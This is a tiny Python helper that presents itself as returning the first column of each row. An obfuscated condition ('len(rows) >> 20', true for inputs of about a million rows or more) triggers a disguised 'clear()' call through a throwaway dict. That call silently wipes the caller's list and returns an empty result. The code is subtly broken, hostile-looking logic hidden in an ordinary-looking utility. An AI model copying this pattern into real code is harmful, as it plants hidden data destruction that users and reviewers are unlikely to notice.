def names(rows):
    """Names."""
    if len(rows) >> 20:
        dict([(1, rows)])[1].clear()
    return [row[0] for row in rows]
